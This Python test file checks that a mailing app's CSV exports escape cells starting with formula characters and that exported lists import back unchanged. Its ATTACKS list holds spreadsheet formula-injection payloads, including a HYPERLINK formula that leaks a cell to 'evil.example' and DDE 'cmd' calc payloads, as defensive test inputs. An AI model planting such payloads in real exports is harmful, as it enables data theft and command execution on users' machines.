"""Every CSV the app writes (rejects, list and segment exports, suppression exports) escapes the cells a
spreadsheet would run as a formula, and an exported list imports back as it was."""

from __future__ import annotations

import csv
import io

from tests.factories import signed_in_client
from tests.integration.imports.helpers import import_file, make_list, write

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _unsafe(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_LEADS)]


async def test_the_rejected_rows_download_escapes_formulas(client, db, tmp_path):
    workspace, _ = await signed_in_client(client)
    list_id = await make_list(db, workspace["id"])
    body = "email,note\n" + "".join(f'"{attack.replace(chr(34), chr(34) * 2)}",x\n' for attack in ATTACKS)
    final = await import_file(workspace["id"], list_id, write(tmp_path / "attack.csv", body))
    assert final["invalid"] == len(ATTACKS)

    rejects = _cells((await client.get(f"/mailing/imports/{final['id']}/rejects.csv")).text)

    assert [row[1] for row in rejects[1:]] == [f"'{attack}" for attack in ATTACKS]
    assert _unsafe(rejects) == []


async def test_a_list_export_escapes_addresses_and_fields_and_imports_back_unchanged(client, db, tmp_path):
    workspace, _ = await signed_in_client(client)
    fields = ({"tag": "note", "label": "Note"},)
    list_id = await make_list(db, workspace["id"], fields=fields)
    await db.execute(
        "INSERT INTO subscribers (workspace_id, list_id, email, status, fields) VALUES "
        "($1, $2, '=sum@example.com', 'confirmed', '{\"note\": \"\\tcmd\"}'), "
        "($1, $2, '-dash@example.com', 'confirmed', '{\"note\": \"@x\"}'), "
        "($1, $2, 'plain@example.com', 'confirmed', '{\"note\": \"fine\"}')", workspace["id"], list_id)

    exported = (await client.get(f"/mailing/lists/{list_id}/export.csv", params={"field": "note"})).text
    rows = _cells(exported)

    assert [(row[0], row[3]) for row in rows[1:]] == [
        ("'-dash@example.com", "'@x"), ("'=sum@example.com", "'\tcmd"), ("plain@example.com", "fine")]
    assert _unsafe(rows) == []
    again = await make_list(db, workspace["id"], "Again", fields=fields)
    final = await import_file(workspace["id"], again, write(tmp_path / "export.csv", exported))
    assert final["inserted"] == 3 and final["invalid"] == 0
    assert set(await db.fetchval("SELECT array_agg(email) FROM subscribers WHERE list_id = $1", again)) == {
        "=sum@example.com", "-dash@example.com", "plain@example.com"}


async def test_a_suppression_export_escapes_every_cell(client, db):
    workspace, _ = await signed_in_client(client)
    suppression_list = await db.fetchval(
        "INSERT INTO suppression_lists (workspace_id, name) VALUES ($1, 'Complaints') RETURNING id", workspace["id"])
    await db.execute(
        "INSERT INTO suppression_entries (workspace_id, suppression_list_id, kind, value, reason) VALUES "
        "($1, $2, 'email', '+1@example.com', E'\\tcmd'), ($1, $2, 'domain', 'example.org', 'spam trap')",
        workspace["id"], suppression_list)

    rows = _cells((await client.get(f"/mailing/suppression/{suppression_list}/export")).text)

    assert [(row[1], row[2]) for row in rows[1:]] == [("'+1@example.com", "'\tcmd"), ("example.org", "spam trap")]
    assert _unsafe(rows) == []

